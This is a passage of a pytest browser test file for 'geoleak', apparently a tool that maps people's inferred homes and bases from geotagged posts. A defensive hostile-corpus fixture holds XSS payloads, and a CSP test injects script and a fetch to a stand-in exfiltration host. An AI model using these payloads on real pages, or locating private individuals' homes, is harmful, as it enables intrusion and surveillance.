"""The demo's maps and report, and a hostile corpus, in a real headless Chromium, offline.

Needs Debian's `chromium` and `chromium-driver` (installed by .ci/run); skipped with that
reason when they are absent. Screenshots are saved in each test's temporary folder.
"""

from __future__ import annotations

import json
import time
from collections import Counter
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from report_browser import Browser, chromium, find_browser, missing_browser_reason
from report_fixtures import HOSTILE_NAME, HOSTILE_TEXT

from geoleak.pipeline import RunResult, run
from geoleak.report.maps import person_page_name, shared_sites, write_maps
from geoleak.report.report import write_report

pytestmark = pytest.mark.browser

REPO = Path(__file__).resolve().parents[2]
SAMPLE = REPO / "sample_media" / "posts.jsonl"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if find_browser() is None:
        pytest.skip(missing_browser_reason())
    with chromium() as session:
        yield session


def _write_all(result: RunResult, out: Path) -> list[Path]:
    paths = write_maps(
        result.profiles, result.evidence, out, sites=result.sites, report_link="report.html"
    )
    paths.append(
        write_report(
            result.profiles,
            result.evidence,
            out / "report.html",
            sites=result.sites,
            maps_linked=True,
        )
    )
    return paths


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> tuple[RunResult, Path]:
    if not SAMPLE.is_file():
        pytest.skip(f"demo corpus {SAMPLE} not found")
    result = run([SAMPLE])
    out = tmp_path_factory.mktemp("demo-maps")
    _write_all(result, out)
    return result, out


def _settle(browser: Browser) -> None:
    """Let Leaflet's zoom animation and the cluster's chunked loading finish."""
    browser.wait("!geoleak.map._animatingZoom")
    time.sleep(0.6)


def _assert_clean(browser: Browser) -> None:
    assert browser.console_errors() == []
    assert browser.external_requests() == []


def test_overview_loads_offline_with_every_marker(
    browser: Browser, demo: tuple[RunResult, Path]
) -> None:
    result, out = demo
    browser.open(out / "index.html")
    _settle(browser)
    expected = (
        sum(len(v) for v in result.evidence.values())
        + sum(len(p.places) for p in result.profiles)
        + len(shared_sites(result.profiles, result.sites))
    )
    assert browser.js("return geoleak.markerCount") == expected
    assert browser.js("return document.querySelectorAll('.leaflet-marker-icon').length") > 5
    # the offline basemap is drawn: country outlines are SVG paths
    assert (
        browser.js("return document.querySelectorAll('.leaflet-geoleak-basemap-pane path').length")
        > 100
    )
    assert (
        browser.js(
            "return document.querySelectorAll('.leaflet-control-layers-overlays label').length"
        )
        >= 8
    )
    browser.screenshot(out / "overview.png")
    # the heatmap of all evidence draws on a canvas when switched on
    browser.js("geoleak.map.addLayer(geoleak.timed.find(t => t.kind === 'heat').layer)")
    assert (
        browser.js("return document.querySelectorAll('canvas.leaflet-heatmap-layer').length") == 1
    )
    _settle(browser)
    browser.screenshot(out / "overview-heatmap.png")
    _assert_clean(browser)


def test_time_slider_builds_the_picture_post_by_post(
    browser: Browser, demo: tuple[RunResult, Path]
) -> None:
    result, out = demo
    browser.open(out / "index.html")
    count_shown = (
        "return geoleak.timed.filter(t => t.kind === 'group')"
        ".reduce((n, t) => n + t.layer.getLayers().length, 0)"
    )
    total = sum(len(v) for v in result.evidence.values())
    assert browser.js(count_shown) == total
    browser.js("geoleak.showPosts(1)")
    assert 1 <= browser.js(count_shown) <= 3  # the evidence of the first post only
    out = "return document.querySelector('.gl-slider-out').textContent"
    # each position names the date of its post (sent as one label per day, see _label_runs)
    times = sorted(
        (e.time_utc or e.posted_at).astimezone(timezone.utc)  # type: ignore[union-attr]
        for v in result.evidence.values()
        for e in v
    )
    assert browser.js(out).startswith("post 1 of") and f"{times[0]:%Y-%m-%d}" in browser.js(out)
    browser.js("geoleak.showPosts(Number(document.querySelector('.gl-range').max))")
    assert browser.js(count_shown) == total
    assert f"{times[-1]:%Y-%m-%d}" in browser.js(out)
    _assert_clean(browser)


def test_person_page_row_opens_its_pin(browser: Browser, demo: tuple[RunResult, Path]) -> None:
    result, out = demo
    person = max(result.evidence, key=lambda p: len(result.evidence[p]))
    browser.open(out / person_page_name(person))
    _settle(browser)
    browser.js("document.querySelector('tr[id^=row-] a[data-pin]').click()")
    browser.wait("document.querySelector('.leaflet-popup-content') !== null")
    _settle(browser)
    text = browser.js("return document.querySelector('.leaflet-popup-content').innerText")
    first = min(result.evidence[person], key=lambda e: (e.time_utc or e.posted_at).timestamp())  # type: ignore[union-attr]
    assert first.post_id in text
    assert "source" in text and "local time" in text
    browser.screenshot(out / "person-popup.png")
    # and the pin's popup links back to its row
    link = browser.js(
        "return document.querySelector('.leaflet-popup-content a[href^=\"#row-\"]').getAttribute('href')"
    )
    assert browser.js(f"return document.getElementById({json.dumps(link[1:])}) !== null")
    # ... and to the same post's row in the report, which links back to the pin
    report_link = browser.js(
        "return document.querySelector('.leaflet-popup-content a[href^=\"report.html#r\"]')"
        ".getAttribute('href')"
    )
    _assert_clean(browser)
    browser.open(out / report_link.split("#")[0], wait_for="document.readyState === 'complete'")
    row = browser.js(
        f"return document.getElementById({json.dumps(report_link.split('#')[1])})"
        ".querySelector('a').getAttribute('href')"
    )
    assert row.startswith(person_page_name(person) + "#pin-")
    browser.open(out / row.split("#")[0])
    browser.driver.get((out / row.split("#")[0]).as_uri() + "#" + row.split("#")[1])
    browser.wait("document.querySelector('.leaflet-popup-content') !== null")
    assert first.post_id in browser.js(
        "return document.querySelector('.leaflet-popup-content').innerText"
    )
    _assert_clean(browser)


def test_clicking_a_marker_opens_its_popup(browser: Browser, demo: tuple[RunResult, Path]) -> None:
    _result, out = demo
    browser.open(out / "index.html")
    _settle(browser)
    from selenium.webdriver.common.by import By

    home = browser.driver.find_elements(By.CSS_SELECTOR, ".gl-place-home")[0]
    browser.driver.execute_script("arguments[0].scrollIntoView({block: 'center'})", home)
    home.click()
    browser.wait("document.querySelector('.leaflet-popup-content') !== null")
    text = browser.js("return document.querySelector('.leaflet-popup-content').innerText")
    assert "Home of" in text and "confidence" in text
    browser.screenshot(out / "overview-popup.png")
    _assert_clean(browser)


def test_report_loads_offline(browser: Browser, demo: tuple[RunResult, Path]) -> None:
    _result, out = demo
    browser.open(out / "report.html", wait_for="document.readyState === 'complete'")
    browser.wait("document.querySelector('iframe.overview').contentWindow.geoleakReady === true")
    time.sleep(1.5)  # let the embedded map finish its first cluster animation
    assert browser.js("return document.querySelectorAll('section.person').length") == len(
        _result.evidence
    ) + sum(1 for p in _result.profiles if p.person not in _result.evidence)
    assert browser.js("return document.querySelectorAll('figure.plot svg').length") >= 1
    browser.screenshot(out / "report.png")
    _assert_clean(browser)


def test_map_pages_without_javascript_say_so_and_show_their_tables(
    browser: Browser, demo: tuple[RunResult, Path]
) -> None:
    """With JavaScript off a map page was a blank box a screen high above its tables, and
    nothing said why; now the box is gone and a line says the map needs JavaScript. The
    tables' "map" links, to pins only the script draws, are hidden (they led nowhere)."""
    result, out = demo
    person = sorted(result.evidence)[0]
    cdp = browser.driver.execute_cdp_cmd
    cdp("Emulation.setScriptExecutionDisabled", {"value": True})
    try:
        for page in (out / "index.html", out / person_page_name(person)):
            browser.driver.get(page.resolve().as_uri())
            body = browser.driver.find_element("tag name", "body")
            assert body.text.startswith("JavaScript is off, so the map is not drawn"), page
            assert not browser.driver.find_element("css selector", ".folium-map").is_displayed()
            table = browser.driver.find_element("css selector", "main.gl-below table")
            assert table.is_displayed() and table.location["y"] < 300, page
            links = browser.driver.find_elements("css selector", "a[data-pin]")
            assert not any(link.is_displayed() for link in links), page
    finally:
        cdp("Emulation.setScriptExecutionDisabled", {"value": False})


# --- hostile corpus -------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[RunResult, Path]:
    """A corpus whose names, texts and file names try to run script in the reader's browser."""
    corpus = tmp_path_factory.mktemp("hostile-corpus")
    media_name = 'x"><img src=y onerror="window.__pwned=7">.jpg'
    (corpus / "media").mkdir()
    Image.new("RGB", (64, 48), (10, 120, 200)).save(corpus / "media" / media_name)
    start = datetime(2025, 2, 3, 22, 0, tzinfo=timezone.utc)
    lines: list[dict[str, Any]] = []
    for i in range(24):
        night = i % 3 != 2
        when = start + timedelta(days=i, hours=0 if night else -12)
        lines.append(
            {
                "id": f"p{i}<script>window.__pwned=8</script>",
                "author": HOSTILE_NAME,
                "created_at": when.strftime("%Y-%m-%dT%H:%M:%SZ"),
                "text": HOSTILE_TEXT + " javascript:window.__pwned=9",
                "lat": 48.8566 + (0.0001 * (i % 4) if night else 0.02),
                "lon": 2.3522 + (0.0001 * (i % 3) if night else 0.03),
                "place": {"name": "<svg onload=window.__pwned=10>"},
                "media": [f"media/{media_name}"] if i == 0 else [],
                "url": "javascript:window.__pwned=11",
            }
        )
    (corpus / "posts.jsonl").write_text(
        "\n".join(json.dumps(line) for line in lines) + "\n", encoding="utf-8"
    )
    result = run([corpus / "posts.jsonl"])
    out = tmp_path_factory.mktemp("hostile-maps")
    _write_all(result, out)
    return result, out


def _open_every_popup(browser: Browser) -> int:
    return int(
        browser.js(
            """
            let n = 0;
            for (const id of Object.keys(geoleak.pins)) {
              const layer = geoleak.pins[id].layer;
              const popup = geoleak.bound(layer).getPopup();
              if (!popup) continue;
              popup.setLatLng(layer.getLatLng()).openOn(geoleak.map);
              n += 1;
            }
            return n;
            """
        )
    )


def test_hostile_corpus_executes_nothing(browser: Browser, hostile: tuple[RunResult, Path]) -> None:
    from selenium.common.exceptions import NoAlertPresentException

    result, out = hostile
    assert result.evidence, "the hostile corpus must produce located evidence to be a test"
    pages = [out / "index.html", out / person_page_name(HOSTILE_NAME)]
    for page in pages:
        browser.open(page)
        opened = _open_every_popup(browser)
        assert opened >= len(result.evidence[HOSTILE_NAME])
        # the last popup is on screen: its text shows the markup as text
        text = browser.js("return document.querySelector('.leaflet-popup-content').innerText")
        assert "<script>" in text or "<img" in text
        assert "ssti 49" not in browser.js("return document.documentElement.outerHTML")
        assert browser.js("return typeof window.__pwned") == "undefined"
        with pytest.raises(NoAlertPresentException):
            browser.driver.switch_to.alert  # noqa: B018 - raises when no alert opened
        browser.screenshot(out / (page.stem + ".png"))
        _assert_clean(browser)
    browser.open(out / "report.html", wait_for="document.readyState === 'complete'")
    browser.wait("document.querySelector('iframe.overview').contentWindow.geoleakReady === true")
    body = browser.js("return document.body.textContent")
    assert HOSTILE_NAME in body and "<script>window.__pwned=1</script>" in body
    assert "ssti {{ 7*7 }}" in body
    time.sleep(1.5)  # let the embedded map finish its first cluster animation
    assert browser.js("return typeof window.__pwned") == "undefined"
    assert (
        browser.js("return typeof document.querySelector('iframe.overview').contentWindow.__pwned")
        == "undefined"
    )
    browser.screenshot(out / "hostile-report.png")
    _assert_clean(browser)


# --- geometry where a swap or a wrap would show -----------------------------------------


def test_antimeridian_and_high_latitude_draw_where_they_are(
    browser: Browser, people: tuple[list[Any], dict[str, list[Any]]], tmp_path: Path
) -> None:
    profiles, evidence = people
    write_maps(profiles, evidence, tmp_path)
    browser.open(tmp_path / person_page_name("chukchi"))
    _settle(browser)
    points = browser.js(
        """
        return Object.values(geoleak.pins).map(p => {
          const ll = p.layer.getLatLng();
          const xy = geoleak.map.latLngToContainerPoint(ll);
          return [ll.lat, ll.lng, xy.x, xy.y];
        });
        """
    )
    assert {round(p[1], 1) for p in points} == {179.9, 180.1}
    # both sides on screen at a local zoom, not thrown to both ends of a world view
    assert browser.js("return geoleak.map.getZoom()") >= 8
    size = browser.js("const s = geoleak.map.getSize(); return [s.x, s.y]")
    assert all(0 <= p[2] <= size[0] and 0 <= p[3] <= size[1] for p in points)
    browser.screenshot(tmp_path / "antimeridian.png")
    _assert_clean(browser)
    browser.open(tmp_path / person_page_name("ivalo"))
    _settle(browser)
    lats = browser.js("return Object.values(geoleak.pins).map(p => p.layer.getLatLng().lat)")
    assert all(lat > 78 or abs(lat - 35.14) < 0.01 for lat in lats)  # Svalbard, and the S1 base
    browser.screenshot(tmp_path / "svalbard.png")
    _assert_clean(browser)


def test_content_security_policy_stops_what_escaping_might_miss(
    browser: Browser, people: tuple[list[Any], dict[str, list[Any]]], tmp_path: Path
) -> None:
    """Defence in depth: even markup smuggled into a page cannot fetch anything."""
    profiles, evidence = people
    page = write_maps(profiles[:1], {"ana": evidence["ana"]}, tmp_path)[1]
    smuggled = (
        '<img src="https://example.invalid/beacon.png">'
        '<script src="https://example.invalid/evil.js"></script>'
        '<script>fetch("https://example.invalid/exfil").catch(() => {});</script>'
    )
    text = page.read_text(encoding="utf-8").replace("</body>", smuggled + "</body>", 1)
    page.write_text(text, encoding="utf-8")
    browser.open(page)
    assert browser.external_requests() == []
    assert "https://example.invalid/beacon.png" in browser.blocked
    assert "https://example.invalid/evil.js" in browser.blocked
    refused = [m for m in browser.console_errors() if "Content Security Policy" in m["message"]]
    assert len(refused) >= 3  # image, script and fetch


def _map_colours(shot: Path, browser: Browser) -> dict[tuple[int, int, int], int]:
    """How often each colour occurs on a grid over the map's middle (clear of the boxes)."""
    rect = browser.js(
        "var r = geoleak.map.getContainer().getBoundingClientRect();"
        "return [r.left, r.top, r.width, r.height];"
    )
    left, top, width, height = rect
    counts: dict[tuple[int, int, int], int] = {}
    with Image.open(shot) as image:
        rgb = image.convert("RGB")
        for i in range(20):
            for j in range(12):
                x = int(left + width * (0.32 + 0.4 * i / 19))
                y = int(top + height * (0.15 + 0.7 * j / 11))
                pixel = rgb.getpixel((x, y))
                counts[pixel] = counts.get(pixel, 0) + 1
    return counts


@pytest.mark.parametrize("kind", ["mbtiles", "pmtiles"])
def test_street_basemap_tiles_cover_the_map(
    browser: Browser, demo: tuple[RunResult, Path], tmp_path: Path, kind: str
) -> None:
    from tile_fixtures import ZOOM_COLOURS, make_mbtiles, make_pmtiles, tiles_around

    from geoleak.report.tilesets import zxy_to_tileid

    result, _out = demo
    # the unit's area (homes, bases): the file covers it, not the trips abroad
    points = [place.position for profile in result.profiles for place in profile.places]
    box = (
        min(p.lat for p in points) - 0.3,
        min(p.lon for p in points) - 0.6,
        max(p.lat for p in points) + 0.3,
        max(p.lon for p in points) + 0.6,
    )
    tiles = tiles_around(*box, range(6, 13))
    if kind == "mbtiles":
        file = make_mbtiles(tmp_path / "street.mbtiles", tiles)
    else:
        file = make_pmtiles(tmp_path / "street.pmtiles", tiles, tileid=zxy_to_tileid)
    out = tmp_path / "maps"
    notes: list[str] = []
    write_maps(
        result.profiles,
        result.evidence,
        out,
        sites=result.sites,
        basemap_file=file,
        messages=notes,
    )
    assert not [note for note in notes if "the cap of" in note or "overview" in note]
    person = max(result.evidence, key=lambda p: len(result.evidence[p]))
    for page in (out / "index.html", out / person_page_name(person)):
        browser.open(page)
        _settle(browser)
        browser.wait("Array.from(document.querySelectorAll('.gl-tile img')).every(i => i.complete)")
        loaded = browser.js(
            "return Array.from(document.querySelectorAll('.gl-tile img'))"
            ".filter(i => i.src.startsWith('data:image/png') && i.naturalWidth === 256).length"
        )
        assert loaded >= 4
        zoom = browser.js("return geoleak.map.getZoom()")
        colour = ZOOM_COLOURS[min(12, zoom)]
        shot = browser.screenshot(tmp_path / f"{kind}-{page.stem}.png")
        counts = _map_colours(shot, browser)
        # the street tiles fill the map: most sampled pixels are the tile colour of this zoom
        assert counts.get(colour, 0) > 0.5 * sum(counts.values()), (zoom, counts)
        assert "Test Map contributors" in browser.js(
            "return document.querySelector('.leaflet-control-attribution').textContent"
        )
        _assert_clean(browser)
    # zoomed in past the file's last level, the last level is drawn enlarged
    browser.js("geoleak.map.setZoom(15, {animate: false})")
    _settle(browser)
    shot = browser.screenshot(tmp_path / f"{kind}-zoom15.png")
    counts = _map_colours(shot, browser)
    assert counts.get(ZOOM_COLOURS[12], 0) > 0.5 * sum(counts.values()), counts
    _assert_clean(browser)


_OVERLAPS = """
const boxes = (sel) => Array.from(document.querySelectorAll(sel)).map((el) => {
  const r = el.getBoundingClientRect();
  return {x: r.left + r.width / 2, y: r.top + r.height / 2, r: Math.min(r.width, r.height) / 2};
});
const pins = boxes('.leaflet-marker-icon.gl-place-wrap');
const counts = boxes('.leaflet-marker-icon.marker-cluster');
const hit = (a, b) => Math.hypot(a.x - b.x, a.y - b.y) < a.r + b.r - 2;
const pairs = [];
pins.forEach((a, i) => pins.slice(i + 1).forEach((b) => { if (hit(a, b)) pairs.push('pin/pin'); }));
// a cluster's count (its inner 15 px) must not sit under a pin
counts.forEach((c) => pins.forEach((p) => { if (hit({...c, r: 13}, p)) pairs.push('count/pin'); }));
return [pins.length, counts.length, pairs];
"""


@pytest.mark.parametrize("page", ["index.html", "person"])
def test_markers_do_not_hide_each_other(
    browser: Browser, demo: tuple[RunResult, Path], page: str, tmp_path: Path
) -> None:
    result, out = demo
    if page == "person":  # a person with home, base, site and frequent places
        busiest = max(result.profiles, key=lambda p: len(p.places))
        page = person_page_name(busiest.person)
    browser.open(out / page)
    _settle(browser)
    n_pins, n_counts, overlaps = browser.js(_OVERLAPS)
    browser.screenshot(tmp_path / "declutter.png")
    assert n_pins >= 3 and n_counts >= 1
    assert overlaps == []
    browser.js("geoleak.map.zoomIn(1, {animate: false});")
    _settle(browser)
    assert browser.js(_OVERLAPS)[2] == []  # kept apart again after a zoom


def test_far_place_link_pans_there(browser: Browser, tmp_path: Path) -> None:
    from geoleak.types import LatLon, Place, PlaceKind, Profile

    home = Place(PlaceKind.HOME, LatLon(64.2691, 24.1481), 40.0, 0.99, ("h",), 30)
    base = Place(PlaceKind.BASE, LatLon(64.2144, 24.0877), 176.0, 0.99, ("b",), 20)
    far = Place(PlaceKind.FREQUENT, LatLon(52.52, 13.405), 90.0, 0.6, ("f",), 5)
    page = write_maps([Profile(person="mover", places=(home, base, far))], {}, tmp_path)[1]
    browser.open(page)
    _settle(browser)
    assert browser.js("return geoleak.map.getCenter().lat;") > 64.0  # opens on home and base
    browser.js("document.querySelector('.gl-far a[data-pin]').click();")
    browser.wait("Math.abs(geoleak.map.getCenter().lat - 52.52) < 0.01")
    assert abs(browser.js("return geoleak.map.getCenter().lng;") - 13.405) < 0.01
    _assert_clean(browser)


def test_a_grouped_overview_opens_and_a_group_leads_to_the_person(
    browser: Browser, demo: tuple[RunResult, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Dense evidence: the overview draws one marker per person and cell, from the shared
    script file beside it, offline and without a console error."""
    from geoleak.report import maps

    result, _out = demo
    monkeypatch.setattr(maps, "OVERVIEW_MAX_MARKERS", 100)
    out = tmp_path / "grouped"
    write_maps(result.profiles, result.evidence, out, sites=result.sites)
    browser.open(out / "index.html")
    _settle(browser)
    groups = browser.js("return geoleak.timed[0].items.length")
    assert 0 < groups <= 100
    assert browser.js("return geoleak.markerCount") < sum(len(v) for v in result.evidence.values())
    # the countries come from the shared file: the offline basemap is drawn
    assert (
        browser.js("return document.querySelectorAll('.leaflet-geoleak-basemap-pane path').length")
        > 100
    )
    person = result.profiles[0].person
    link = browser.js(
        "var g = geoleak.timed[0].items.map(i => geoleak.bound(i.layer).getPopup().getContent());"
        "return g.find(html => html.indexOf(arguments[0]) >= 0);",
        f'href="{person_page_name(person)}"',
    )
    assert link and "located observation" in link
    _assert_clean(browser)


def _click_dot(browser: Browser, ll: list[float]) -> None:
    """A real mouse click where the canvas draws the point at `ll` (the canvas's own hit test)."""
    from selenium.webdriver.common.action_chains import ActionChains

    box = browser.driver.find_element(
        "css selector", "#" + browser.js("return geoleak.map.getContainer().id")
    )
    x, y = browser.js(
        "var s = geoleak.map.getSize(), p = geoleak.map.latLngToContainerPoint(arguments[0]);"
        "return [Math.round(p.x - s.x / 2), Math.round(p.y - s.y / 2)];",
        ll,
    )
    ActionChains(browser.driver).move_to_element_with_offset(box, x, y).click().perform()


def test_dense_points_draw_on_a_canvas_and_keep_popups_links_and_slider(
    browser: Browser, demo: tuple[RunResult, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Above CANVAS_ABOVE points a person page draws its evidence as circles on one canvas:
    no DOM marker per point, yet a row's link opens the point's popup (which links back),
    a click on the drawn point opens it too, the time slider filters the circles, and the
    place pins stay DOM pins."""
    from geoleak.report import maps

    result, _out = demo
    # evidence above the threshold, places (at most this many of a kind) below it
    per_kind = Counter(pl.kind for p in result.profiles for pl in p.places)
    monkeypatch.setattr(maps, "CANVAS_ABOVE", max(per_kind.values()))
    out = tmp_path / "canvas"
    write_maps(result.profiles, result.evidence, out, sites=result.sites)
    person = max(result.evidence, key=lambda p: len(result.evidence[p]))
    browser.open(out / person_page_name(person))
    _settle(browser)
    n = len(result.evidence[person])
    assert browser.js("return document.querySelectorAll('.leaflet-marker-icon.gl-dot').length") == 0
    assert (
        browser.js("return document.querySelectorAll('.leaflet-overlay-pane canvas').length") >= 1
    )
    assert browser.js("return document.querySelectorAll('.gl-place-wrap').length") >= 1
    dots = (
        "return Object.values(geoleak.pins).filter(p => p.layer instanceof L.CircleMarker).length"
    )
    assert browser.js(dots) == n  # every point, each its own circle with its anchor id
    count_shown = (
        "return geoleak.timed.filter(t => t.kind === 'group')"
        ".reduce((n, t) => n + t.layer.getLayers().length, 0)"
    )
    assert browser.js(count_shown) == n
    browser.js("geoleak.showPosts(1)")
    assert 1 <= browser.js(count_shown) <= 3
    browser.js("geoleak.showPosts(Number(document.querySelector('.gl-range').max))")
    assert browser.js(count_shown) == n
    # a row's link opens its point's popup
    browser.js("document.querySelector('tr[id^=row-] a[data-pin]').click()")
    browser.wait("document.querySelector('.leaflet-popup-content') !== null")
    _settle(browser)
    first = min(result.evidence[person], key=lambda e: (e.time_utc or e.posted_at).timestamp())  # type: ignore[union-attr]
    assert first.post_id in browser.js(
        "return document.querySelector('.leaflet-popup-content').innerText"
    )
    link = browser.js(
        "return document.querySelector('.leaflet-popup-content a[href^=\"#row-\"]').getAttribute('href')"
    )
    assert browser.js(f"return document.getElementById({json.dumps(link[1:])}) !== null")
    browser.screenshot(tmp_path / "canvas-person.png")
    # a click on a drawn point (the canvas hit test) opens that point's popup
    browser.js("geoleak.map.closePopup()")
    pid = browser.js(
        "var p = geoleak.pins, k = Object.keys(p).find(k => p[k].layer.getRadius);"
        "geoleak.map.setView(p[k].layer.getLatLng(), 18, {animate: false}); return k;"
    )
    _settle(browser)
    _click_dot(
        browser,
        browser.js(
            f"var l = geoleak.pins[{json.dumps(pid)}].layer.getLatLng(); return [l.lat, l.lng];"
        ),
    )
    browser.wait("document.querySelector('.leaflet-popup-content') !== null")
    assert "source" in browser.js(
        "return document.querySelector('.leaflet-popup-content').innerText"
    )
    _assert_clean(browser)
    # the overview's groups on a canvas still lead to the person's page
    monkeypatch.setattr(maps, "OVERVIEW_MAX_MARKERS", 100)
    grouped = tmp_path / "canvas-grouped"
    write_maps(result.profiles, result.evidence, grouped, sites=result.sites)
    browser.open(grouped / "index.html")
    _settle(browser)
    assert browser.js("return document.querySelectorAll('.leaflet-marker-icon.gl-dot').length") == 0
    assert (
        browser.js("return document.querySelectorAll('.leaflet-marker-icon.marker-cluster').length")
        == 0
    )
    assert 0 < browser.js("return geoleak.timed[0].items.length") <= 100
    html = browser.js(
        "var g = geoleak.timed[0].items.map(i => geoleak.bound(i.layer).getPopup().getContent());"
        "return g.find(html => html.indexOf(arguments[0]) >= 0);",
        f'href="{person_page_name(person)}"',
    )
    assert html and "located observation" in html
    _assert_clean(browser)


_EVIDENCE_INSIDE_A_CIRCLE = """
const places = [];
geoleak.map.eachLayer(l => { if (l instanceof L.CircleMarker && !(l instanceof L.Circle)
  && !geoleak.timed.some(t => t.items && t.items.some(i => i.layer === l))) places.push(l.getLatLng()); });
const circles = [];
geoleak.map.eachLayer(l => { if (l instanceof L.Circle) circles.push(l); });
const dots = geoleak.timed.find(t => t.kind === 'group').items.map(i => i.layer);
const site = Object.values(geoleak.pins).filter(p => p.layer instanceof L.Marker).map(p => p.layer.getLatLng());
for (const dot of dots) {
  const ll = dot.getLatLng();
  if (places.concat(site).some(p => p.distanceTo(ll) < 25)) continue;
  const inside = circles.find(c => c.getLatLng().distanceTo(ll) < 0.8 * c.getRadius());
  if (inside) return [ll.lat, ll.lng, inside.getRadius()];
}
return null;
"""


def test_many_places_draw_on_the_canvas_behind_nothing_and_in_front_of_their_circles(
    browser: Browser, demo: tuple[RunResult, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Above CANVAS_ABOVE places of a kind, the places are circles on the canvas too: no DOM
    pin, yet their table rows open their popups and a real click on one opens it; their
    uncertainty circles are drawn behind the points, so a click on a point inside a circle
    opens the point (also after the circles are switched off and on again)."""
    from geoleak.report import maps

    result, _out = demo
    monkeypatch.setattr(maps, "CANVAS_ABOVE", 0)
    out = tmp_path / "canvas-places"
    write_maps(result.profiles, result.evidence, out, sites=result.sites)
    profile = max(
        (p for p in result.profiles if p.places), key=lambda p: len(result.evidence[p.person])
    )
    browser.open(out / person_page_name(profile.person))
    _settle(browser)
    kinds = ".gl-place-home, .gl-place-base, .gl-place-frequent"
    assert browser.js(f"return document.querySelectorAll({json.dumps(kinds)}).length") == 0
    place_dots = (
        "return Object.keys(geoleak.pins).filter(k => geoleak.pins[k].layer instanceof"
        " L.CircleMarker && document.querySelector('td a[data-pin=\"' + k + '\"]')"
        " && !document.getElementById('row-' + k.slice(4))).length"
    )
    assert browser.js(place_dots) == len(profile.places)
    # a row of the places table opens its place's popup
    browser.js("document.querySelector('h2 + table a[data-pin]').click()")
    browser.wait("document.querySelector('.leaflet-popup-content') !== null")
    text = browser.js("return document.querySelector('.leaflet-popup-content').innerText")
    assert f"of {profile.person}" in text and "confidence" in text
    # a real click on the drawn home opens it
    browser.js("geoleak.map.closePopup()")
    home = next(p for p in profile.places if p.kind.value == "home")
    browser.js(
        f"geoleak.map.setView([{home.position.lat}, {home.position.lon}], 18, {{animate: false}})"
    )
    _settle(browser)
    _click_dot(browser, [home.position.lat, home.position.lon])
    browser.wait("document.querySelector('.leaflet-popup-content') !== null")
    assert "Home of" in browser.js(
        "return document.querySelector('.leaflet-popup-content').innerText"
    )
    # a point inside an uncertainty circle is in front of it
    found = browser.js(_EVIDENCE_INSIDE_A_CIRCLE)
    assert found is not None, "the demo has evidence inside an uncertainty circle"
    lat, lon, _radius = found
    for again in (False, True):
        browser.js("geoleak.map.closePopup()")
        if again:  # switched off and on in the layer control: still behind
            browser.js(
                "var g = []; geoleak.map.eachLayer(l => { if (l instanceof L.FeatureGroup &&"
                " l.getLayers().some(c => c instanceof L.Circle)) g.push(l); });"
                "g.forEach(l => { geoleak.map.removeLayer(l); geoleak.map.addLayer(l); });"
            )
        browser.js(f"geoleak.map.setView([{lat}, {lon}], 18, {{animate: false}})")
        _settle(browser)
        _click_dot(browser, [lat, lon])
        browser.wait("document.querySelector('.leaflet-popup-content') !== null")
        assert "source" in browser.js(
            "return document.querySelector('.leaflet-popup-content').innerText"
        )
    _assert_clean(browser)


def test_thousands_of_frequent_places_on_the_overview_are_built_when_first_shown(
    browser: Browser, demo: tuple[RunResult, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Above CANVAS_ABOVE frequent places the overview's layer of them is off at first and
    built only when switched on, or when a link asks for one of its pins."""
    from geoleak.report import maps

    result, _out = demo
    frequent = [
        (p.person, i, pl)
        for p in result.profiles
        for i, pl in enumerate(p.places)
        if pl.kind.value == "frequent"
    ]
    assert frequent, "the demo has frequent places"
    monkeypatch.setattr(maps, "CANVAS_ABOVE", 0)
    out = tmp_path / "lazy"
    write_maps(result.profiles, result.evidence, out, sites=result.sites)
    browser.open(out / "index.html")
    _settle(browser)
    # the places and their uncertainty circles: two layers off at first, neither built
    assert browser.js("return geoleak.lazyCount") == 2 * len(frequent)
    circles = (
        "var n = 0; geoleak.map.eachLayer(l => { if (l instanceof L.Circle) n += 1; }); return n;"
    )
    shown_circles = browser.js(circles)
    ids = [maps.place_pin_id(person, place, i) for person, i, place in frequent]
    assert browser.js("return arguments[0].filter(id => id in geoleak.pins).length", ids) == 0
    before = browser.js("return geoleak.markerCount")
    # a link to one of its pins builds the layer, shows it and opens the pin's popup
    assert browser.js("return geoleak.focus(arguments[0])", ids[0])
    browser.wait("document.querySelector('.leaflet-popup-content') !== null")
    assert "Frequent place of" in browser.js(
        "return document.querySelector('.leaflet-popup-content').innerText"
    )
    assert browser.js("return arguments[0].filter(id => id in geoleak.pins).length", ids) == len(
        ids
    )
    assert browser.js("return geoleak.markerCount") == before + len(frequent)
    # switched off and on in the layer control: built once, drawn again
    label = "Other frequent places"
    toggle = (
        "var l = Array.from(document.querySelectorAll('.leaflet-control-layers-overlays label'))"
        ".find(l => l.textContent.indexOf(arguments[0]) >= 0);"
        "l.querySelector('input').click(); return l.querySelector('input').checked;"
    )
    assert browser.js(toggle, label) is False
    assert browser.js(toggle, label) is True
    assert browser.js("return geoleak.markerCount") == before + len(frequent)
    _assert_clean(browser)
    # on a fresh page, switching it on in the layer control builds it
    browser.open(out / "index.html")
    _settle(browser)
    assert browser.js(toggle, label) is True
    assert browser.js("return geoleak.markerCount") == before + len(frequent)
    assert browser.js("return arguments[0].filter(id => id in geoleak.pins).length", ids) == len(
        ids
    )
    # and their circles when their layer is switched on
    assert browser.js(circles) == shown_circles
    assert browser.js(toggle, "Uncertainty circles of other frequent places") is True
    assert browser.js(circles) == shown_circles + len(frequent)
    _assert_clean(browser)


def test_a_long_evidence_table_shows_its_first_rows_and_the_rest_on_demand(
    browser: Browser, demo: tuple[RunResult, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A person page writes the first rows of its evidence table; "show more", "show all"
    and a link to a row not shown yet add the rest, as text, in the same order, offline."""
    from geoleak.report import maps

    result, _out = demo
    person = max(result.evidence, key=lambda p: len(result.evidence[p]))
    evidence = result.evidence[person]
    assert len(evidence) > 12, "the demo has a person with more than 12 points"
